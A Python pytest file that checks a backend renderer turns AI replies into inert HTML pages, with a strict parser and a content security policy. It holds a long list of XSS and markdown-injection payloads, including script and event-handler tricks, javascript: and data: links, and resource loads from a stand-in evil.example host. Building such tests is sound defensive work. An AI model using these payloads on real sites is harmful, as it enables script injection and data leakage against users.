"""A reply as a page: whatever it says, nothing in the page is active and nothing is loaded."""

import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Final

import pytest

from backend.api import rendering

ALLOWED: Final = {*rendering.TAGS, "html", "head", "meta", "title", "style", "body"}
HARMLESS: Final = {"href", "title", "class", "rel", "align", "start"}
VOID: Final = {"br", "hr", "meta"}

# Each is tried as it is, in a list, in a quote, in a table, in a fence and in a link's text.
PAYLOADS: Final = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img/src=x/onerror=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<video src=https://evil.example/x.mp4 onerror=alert(1)>",
    "<audio src=https://evil.example/x.mp3>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><img src=x onerror=alert(1)>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href='https://x.example' onclick='alert(1)'>x</a>",
    "<a href='https://x.example' ping='https://evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    "[x](//evil.example)",
    "[x](/api/remove-conversation?conversation_id=1)",
    "[x](https://x.example \"a\\\" onmouseover=alert(1) b\")",
    "[x](https://x.example'onmouseover='alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://x.example \"' onmouseover=alert(1) '\"",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://x.example/\"onmouseover=alert(1)>",
    "<a@x.example\"onmouseover=alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://evil.example/x.png)",
    "![x](https://evil.example/x.png\" onerror=\"alert(1))",
    "![x][r]\n\n[r]: data:image/svg+xml,<svg onload=alert(1)>",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` {.x onload=alert(1) style=\"x\"}\nx\n```",
    "~~~ { .html #id onclick=alert(1) }\nx\n~~~",
    "    <script>alert(1)</script>",
    ":::python\n<script>alert(1)</script>",
    "    #!html\n    <script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0000\x03<script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <svg onload=alert(1)> | [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
]  # fmt: skip
PLACES: Final = ("{}", "- a\n- {}", "> {}", "| {} | b |\n|---|---|\n| {} | c |", "```html\n{}\n```", "[{}](https://x.example)",
                 "<div>\n{}\n</div>", "**{}**")  # fmt: skip


class Seen(HTMLParser):
    """What a browser would find; fails on anything but text, structure and links to elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.said = ""
        self.styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        self.styles += tag == "style"
        for name, value in attrs:
            if tag in ("html", "body", "meta"):
                assert name in ("dir", "charset", "name", "content")
                continue
            assert name in HARMLESS | ({"class"} if tag == "pre" else set()), (tag, name)
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), value
                self.links.append(value or "")
        if tag == "a" and any(name == "href" for name, _ in attrs):
            assert ("rel", "noopener noreferrer nofollow") in attrs

    def handle_data(self, data: str) -> None:
        self.said += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def seen(page: str) -> Seen:
    parser = Seen()
    parser.feed(page)
    parser.close()
    return parser


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_is_left(payload: str) -> None:
    for place in PLACES:
        page = seen(rendering.page(place.replace("{}", payload), payload).decode())
        assert page.styles == 1


def test_html_of_the_reply_is_shown_as_text() -> None:
    assert "<b>bold</b> & 1 < 2" in seen(rendering.safe_html("<b>bold</b> & 1 < 2")).said


def test_pictures_become_links() -> None:
    page = seen(rendering.safe_html("![a cat](https://x.example/cat.png) ![](https://x.example/dog.png)"))
    assert page.links == ["https://x.example/cat.png", "https://x.example/dog.png"]
    assert "a cat" in page.said
    assert "https://x.example/dog.png" in page.said


def test_markdown_of_every_day_is_rendered() -> None:
    html = rendering.safe_html(
        "# T\n\none\ntwo\n\n1. a\n2. b\n\n```python\ndef f(): return 1\n```\n\n| a |\n|--:|\n| 1 |\n\n<https://x.example>"
    )
    for part in ("<h1>T</h1>", "one<br>", "<ol>", '<span class="k">def</span>', '<td align="right">1</td>'):
        assert part in html
    assert seen(html).links == ["https://x.example"]


def test_the_policy_names_the_one_stylesheet_by_its_hash() -> None:
    page = rendering.page("x", "t").decode()
    style = re.search(r"<style>(.*)</style>", page, re.DOTALL)
    assert style is not None
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    policy = dict(rendering.headers())[b"content-security-policy"].decode()
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{digest}';")
    assert "url(" not in page
    assert "@import" not in page
    assert "prefers-color-scheme: dark" in page
    assert 'dir="auto"' in page


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "x*y_z[" * 8_000, "=\n" * 40_000, "```\n" * 20_000, "x" * 200_000, "> " * 4_000 + "x", "<" * 90_000],
)
def test_what_would_keep_markdown_busy_is_shown_as_it_is(text: str) -> None:
    html = rendering.safe_html(text)
    seen(html)
    assert html


@pytest.mark.parametrize(
    "option", ["full=True cssfile='{file}'", "pygments_formatter=img", "style=x", "linenos=1", "encoding=x"]
)
def test_words_behind_a_fence_are_no_options_of_the_highlighter(tmp_path: Path, option: str) -> None:
    file = tmp_path / "written.css"
    html = rendering.safe_html("``` {.python " + option.replace("{file}", str(file)) + "}\ndef f(): 1\n```")
    assert '<span class="k">def</span>' in html
    assert not file.exists()


def test_long_code_is_no_reason_to_give_up() -> None:
    assert '<div class="highlight">' in rendering.safe_html("```json\n" + "[[1, 2], [3, 4]],\n" * 4_000 + "```")
